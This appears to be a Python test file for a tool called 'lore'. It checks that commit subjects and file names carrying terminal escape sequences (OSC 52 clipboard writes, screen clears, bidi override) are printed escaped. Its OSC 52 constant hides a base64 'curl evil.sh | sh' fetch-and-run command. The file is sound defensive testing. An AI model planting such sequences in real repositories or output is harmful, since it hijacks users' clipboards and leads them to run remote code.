"""Attack 13a: commit subjects and paths went to the terminal raw, so a cloned repository could write the
victim's clipboard (OSC 52) or clear the screen when they ran `lore history` or `lore query`. Now human
output shows control characters as escapes; `--json` keeps the text exactly."""

from __future__ import annotations

from .clone import git

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e"


def test_hostile_commit_subject_and_path_print_without_control_sequences(victim):
    name = f"evil{CLEAR}.py"
    (victim.repo / "src" / name).write_text("def f():\n    pass\n")
    git(victim.repo, "add", ".")
    git(victim.repo, "commit", "-q", "-m", f"fix{OSC52}{CLEAR} typo{BIDI}")
    rc, out, err, _ = victim.run("ingest")
    assert rc == 0, (out, err)
    rc, out, _, _ = victim.run("query", "[:find ?c ?d :where [?c :entity-type :type/commit] [?c :description ?d]]")
    subjects = [d for _, d in out["results"]]
    assert any(OSC52 in d for d in subjects)  # stored and returned verbatim to programs
    commit = next(c for c, d in out["results"] if OSC52 in d)

    for args in (("query", "[:find ?c ?d :where [?c :entity-type :type/commit] [?c :description ?d]]"),
                 ("history", commit),
                 ("sql", "SELECT DISTINCT v FROM facts WHERE a IN (':path', ':file', ':description')")):
        rc, _, _, text = victim.run(*args, json_out=False)
        assert rc == 0
        assert "\x1b" not in text and "\x07" not in text and BIDI not in text, (args, text)
        assert "\\x1b]52;c;" in text  # shown, not hidden


def test_repository_names_in_log_lines_print_without_control_sequences(victim):
    """Warnings on stderr name repository files too: a journal file Lore leaves alone was named raw."""
    journal = victim.repo / ".lore" / "journal"
    journal.mkdir(parents=True)
    (journal / f"evil{CLEAR}{OSC52}.edn").write_text("not an entry")
    git(victim.repo, "add", "-A")
    git(victim.repo, "commit", "-q", "-m", "a journal file")
    for json_out in (False, True):
        rc, _, err, _ = victim.run("ingest", json_out=json_out)
        assert rc == 0, err
        assert "evil" in err and "\\x1b[2J" in err, err  # the warning is there, its name shown escaped
        assert "\x1b" not in err and "\x07" not in err, err
